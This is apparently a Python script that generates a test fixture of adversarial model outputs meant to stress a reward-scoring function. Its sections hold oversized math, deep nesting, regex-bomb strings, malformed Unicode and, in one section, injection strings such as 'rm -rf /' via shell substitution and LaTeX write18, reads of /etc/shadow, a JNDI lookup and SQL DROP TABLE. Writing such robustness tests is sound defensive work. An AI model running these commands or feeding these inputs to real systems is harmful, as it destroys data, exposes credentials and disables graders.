"""Writes `hostile_outputs.jsonl`: model outputs meant to hang or crash a reward function.

Run from anywhere: ``python tests/data/make_hostile_outputs.py``; the output is deterministic
(no randomness), and the checked-in file is what this script writes.

Each line is a JSON object with a ``kind`` and either

* ``"response"``: the output itself (lone surrogates are written as ``\\ud800`` escapes, so
  the file stays valid UTF-8 while the loaded string holds them), or
* ``"parts"``: a recipe ``[[text, times], ...]`` for outputs too big to check in; the response
  is ``"".join(text * times for text, times in parts)`` (see :func:`expand`). This keeps
  megabyte answers and 50k-deep nesting out of the repository.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

OUT = Path(__file__).with_name("hostile_outputs.jsonl")


def expand(entry: dict[str, Any]) -> str:
    """The response an entry describes (literal, or built from its `parts` recipe)."""
    if "response" in entry:
        return entry["response"]
    return "".join(text * int(times) for text, times in entry["parts"])


def _lit(kind: str, response: str) -> dict[str, Any]:
    return {"kind": kind, "response": response}


def _rec(kind: str, *parts: tuple[str, int]) -> dict[str, Any]:
    return {"kind": kind, "parts": [[t, n] for t, n in parts]}


def _matrix(n: int, entry: str) -> str:
    rows = " \\\\ ".join(" & ".join(entry for _ in range(n)) for _ in range(n))
    return f"\\begin{{pmatrix}} {rows} \\end{{pmatrix}}"


def entries() -> list[dict[str, Any]]:
    e: list[dict[str, Any]] = []
    # -- sanity: ordinary answers, so the corpus also holds rewards other than the minimum
    e += [
        _lit("control", "1 + 1 = 2, so the answer is \\boxed{2}."),
        _lit("control", "The answer is 2"),
        _lit("control", "<answer>\n(1) Zoey is a knight\n(2) Oliver is a knave\n</answer>"),
        _lit("control", "abc"),
        _lit("control", ""),
    ]
    # -- huge exponents, towers and factorials
    e += [
        _lit("huge_exponent", "\\boxed{9^{9^{9^{9^{9}}}}}"),
        _lit("huge_exponent", "The answer is 10**10**10"),
        _lit("huge_exponent", "\\boxed{10^{10^{10^{10}}}}"),
        _lit("huge_exponent", "\\boxed{2^{2^{2^{2^{2^{2^{2}}}}}}}"),
        _lit("huge_exponent", "\\boxed{9^{9^{9}} - 9^{9^{9}} + 2}"),
        _lit("huge_exponent", "\\boxed{\\left(10^{100}\\right)^{10^{100}}}"),
        _lit("huge_exponent", "\\boxed{1e999999999}"),
        _lit("huge_exponent", "Answer: 10**-10**10"),
        _lit("huge_exponent", "\\boxed{\\sqrt[10^{100}]{2}}"),
        _lit("huge_exponent", "\\boxed{10^{10^{10}} \\bmod 7}"),
        _lit("factorial", "\\boxed{100000!}"),
        _lit("factorial", "\\boxed{(10^{10})!}"),
        _lit("factorial", "\\boxed{9!!!!!!!!!!}"),
        _lit("factorial", "\\boxed{\\binom{10^{10}}{5 \\cdot 10^{9}}}"),
        _lit("factorial", "\\boxed{\\Gamma(10^{100})}"),
    ]
    # -- deep nesting (1k to 50k levels), balanced and not
    for n in (1_000, 10_000, 50_000):
        e.append(_rec("nested_braces", ("\\boxed{", 1), ("{", n), ("2", 1), ("}", n + 1)))
    for n in (1_000, 10_000, 50_000):
        e.append(_rec("nested_frac", ("\\boxed{", 1), ("\\frac{1}{", n), ("2", 1), ("}", n + 1)))
    e += [
        _rec("nested_sqrt", ("\\boxed{", 1), ("\\sqrt{", 5_000), ("4", 1), ("}", 5_001)),
        _rec("nested_parens", ("\\boxed{", 1), ("(", 50_000), ("2", 1), (")", 50_000), ("}", 1)),
        _rec("nested_left", ("\\boxed{", 1), ("\\left(", 10_000), ("2", 1), ("\\right)", 10_000)),
        _rec("nested_power", ("\\boxed{", 1), ("2^{", 1_000), ("2", 1), ("}", 1_001)),
        _rec("nested_short", ("\\boxed{", 1), ("{", 400), ("2", 1), ("}", 401)),
        _rec("unbalanced", ("\\boxed{", 1), ("{", 50_000), ("2", 1)),
        _rec("unbalanced", ("}", 50_000), ("\\boxed{2}", 1), ("{", 50_000)),
        _rec("unbalanced", ("\\frac{", 20_000), ("\\boxed{2", 1)),
        _rec("nested_sin", ("\\boxed{", 1), ("\\sin(", 100), ("x", 1), (")", 100), ("}", 1)),
        _rec(
            "nested_answer_tags",
            ("<answer>", 10_000),
            ("Zoey is a knight", 1),
            ("</answer>", 10_000),
        ),
    ]
    # -- megabyte-long answers
    e += [
        _rec("long", ("\\boxed{", 1), ("9", 2_000_000), ("}", 1)),
        _rec("long", ("The answer is ", 1), ("9", 2_000_000)),
        _rec("long", ("a", 1_000_000)),
        _rec("long", ("\\boxed{2}", 200_000)),
        _rec("long", ("answer is ", 200_000)),
        _rec("long", ("<answer>", 200_000)),
        _rec("long", ("<answer>", 1), ("Zoey is a knight ", 100_000), ("</answer>", 1)),
        _rec("long", (" ", 2_000_000)),
        _rec("long", ("\n", 2_000_000)),
        _rec("long", ("\\boxed{", 1), ("9", 999), ("}", 1)),
        _rec("long", ("\\boxed{", 1), ("9", 1_001), ("}", 1)),
        _rec("long", ("x", 199_990), ("\\boxed{2}", 1)),
        _rec("long", ("x", 200_001), ("\\boxed{2}", 1)),
        _rec("long", ("\\boxed{", 1), ("1+", 499), ("1}", 1)),
    ]
    # -- invalid or odd unicode
    e += [
        _lit("unicode", "\\boxed{\ud800}"),
        _lit("unicode", "\udfff"),
        _lit("unicode", "\udc00\ud800 the answer is \ud83d"),
        _lit("unicode", "<answer>\n(1) Zoey is a knight\ud800\n</answer>"),
        _lit("unicode", "\x00" * 1000),
        _lit("unicode", "\\boxed{2\x00}"),
        _lit("unicode", "\u202e\\boxed{2}\u202c"),
        _rec("unicode", ("\u200f", 10_000), ("\\boxed{2}", 1)),
        _rec("unicode", ("\\boxed{2", 1), ("\u0301", 100_000), ("}", 1)),
        _rec("unicode", ("a", 1), ("\u0301", 100_000)),
        _lit("unicode", "\\boxed{2\u200b}"),
        _lit("unicode", "\\boxed{\uff12}"),  # fullwidth digit two
        _lit("unicode", "\\boxed{\U0001d7ee}"),  # mathematical bold digit two
        _lit("unicode", "\\boxed{\u0662}"),  # arabic-indic digit two
        _lit("unicode", "\\boxed{2\u00b2}"),
        _lit("unicode", "\ufeff\uffff\ufffe\U0010ffff\\boxed{2}"),
        _lit("unicode", "<answer>\n(1) Z\u043eey is a knight\n</answer>"),  # cyrillic o
        _lit("unicode", "\\boxed{\U0001f600}"),
    ]
    # -- regex-bomb-like strings for the knights-and-knaves, reverse and answer parsers
    e += [
        _rec("regex_bomb", ("<answer>", 1), ("Zoey is ", 5_000), ("</answer>", 1)),
        _rec("regex_bomb", ("<answer>", 1), ("A", 19_990), (" is a knight</answer>", 1)),
        _rec("regex_bomb", ("<answer>", 1), ("Zoey     ", 3_000), ("knight</answer>", 1)),
        _rec("regex_bomb", ("<answer>", 100_000), ("</answer>", 1)),
        _rec("regex_bomb", ("</answer>", 100_000)),
        _rec("regex_bomb", ("<answer>", 1), ("(1) Zoey is a knight\n", 1_000), ("</answer>", 1)),
        _rec("regex_bomb", ("<answer>", 1), ("is a ", 4_000), ("knave</answer>", 1)),
        _rec("regex_bomb", ("<answer>", 1), ("Zoey is an an an ", 1_000), ("</answer>", 1)),
        _rec("regex_bomb", ("a", 50), ("!", 1)),
        _rec("regex_bomb", ("ab", 50_000)),
        _rec("regex_bomb", ("Answer:", 100_000)),
        _rec("regex_bomb", ("\\boxed", 100_000)),
        _rec("regex_bomb", ("\\boxed ", 1), ("$", 50_000)),
        _rec("regex_bomb", ("\\fbox{", 30_000)),
    ]
    # -- inputs that make sympy work hard
    e += [
        _lit("sympy", f"\\boxed{{{_matrix(15, '9')}}}"),
        _lit("sympy", f"\\boxed{{\\det{_matrix(12, 'x')}}}"),
        _lit("sympy", f"\\boxed{{{_matrix(100, '1')}}}"),
        _lit("sympy", "\\boxed{\\sum_{i=1}^{10^{100}} i}"),
        _lit("sympy", "\\boxed{\\sum_{i=1}^{10^{100}} \\frac{1}{i^{2}}}"),
        _lit("sympy", "\\boxed{\\prod_{k=1}^{10^{10}} k}"),
        _lit("sympy", "\\boxed{\\int_0^\\infty e^{-x^2} \\sin(x^{100}) \\, dx}"),
        _lit("sympy", "\\boxed{\\int x^{x^{x}} \\, dx}"),
        _lit("sympy", "\\boxed{\\lim_{n\\to\\infty} (1+1/n)^{n^{n}}}"),
        _lit("sympy", "\\boxed{(x+1)^{1000000}}"),
        _lit("sympy", "\\boxed{\\frac{d^{1000}}{dx^{1000}} e^{x^2}}"),
        _lit("sympy", "\\boxed{x^{1000000} - 1 = 0}"),
        _lit("sympy", "\\boxed{\\{x \\mid x > 0\\} \\cup [0, 1)}"),
        _lit("sympy", "\\boxed{" + "=".join(["1"] * 300) + "}"),
        _lit("sympy", "\\boxed{" + "+".join(["x"] * 300) + "}"),
        _lit("sympy", "\\boxed{0.\\overline{9}}"),
        _lit("sympy", "\\boxed{\\infty - \\infty}"),
        _lit("sympy", "\\boxed{\\frac{0}{0}}"),
        _lit("sympy", "\\boxed{\\frac{1}{0}}"),
        _lit("sympy", "\\boxed{nan}"),
        _lit("sympy", "\\boxed{zoo}"),
        _lit("sympy", "\\boxed{\\text{\\boxed{\\text{\\boxed{2}}}}}"),
    ]
    # -- SQL, shell and code-looking junk
    e += [
        _lit("injection", "'; DROP TABLE problems; --"),
        _lit("injection", "\\boxed{$(rm -rf /)}"),
        _lit("injection", "\\boxed{`reboot`}"),
        _lit("injection", "\\boxed{__import__('os').system('echo pwned')}"),
        _lit("injection", "The answer is eval('__import__(\"os\")._exit(1)')"),
        _lit("injection", "\\boxed{lambda: 0}"),
        _lit("injection", "\\input{/etc/passwd} \\boxed{\\include{/etc/shadow}}"),
        _lit("injection", "\\immediate\\write18{rm -rf /} \\boxed{2}"),
        _lit("injection", "\\boxed{{{7*7}}} ${jndi:ldap://x/a} {0.__class__}"),
        _lit("injection", "<script>alert(1)</script> %s%s%s%n \x1b[2J\x1b[H"),
        _lit("injection", "<answer>\n(1) Robert'); DROP TABLE students;-- is a knight\n</answer>"),
    ]
    # -- mixtures
    e += [
        _rec("mixed", ("junk ", 200_000), ("\\boxed{2}", 1)),
        _rec("mixed", ("\\boxed{", 1), ("{", 10_000), ("9^{9^{9^{9}}}", 1), ("}", 10_001)),
        _lit("mixed", "\u202e\ud800\\boxed{9^{9^{9^{9^{9}}}}}\x00\u0301"),
        _rec(
            "mixed",
            ("<answer>\n(1) Zoey is a knight\n(2) Oliver is a knave\n</answer>", 1),
            ("<answer>", 1),
            ("Zoey is ", 4_000),
        ),
        _lit("mixed", "\\boxed{\\sum_{i=1}^{10^{100}} 100000!} '; DROP TABLE x; -- \ud800"),
        _rec("mixed", ("\\boxed{2}", 1), ("\u0301", 50_000), ("\\boxed{(10^{10})!}", 1)),
    ]
    return e


def main() -> None:
    lines = [json.dumps(x, ensure_ascii=True) for x in entries()]
    OUT.write_text("\n".join(lines) + "\n", encoding="ascii", newline="\n")
    print(f"wrote {OUT} ({len(lines)} entries, {OUT.stat().st_size} bytes)")


if __name__ == "__main__":
    main()
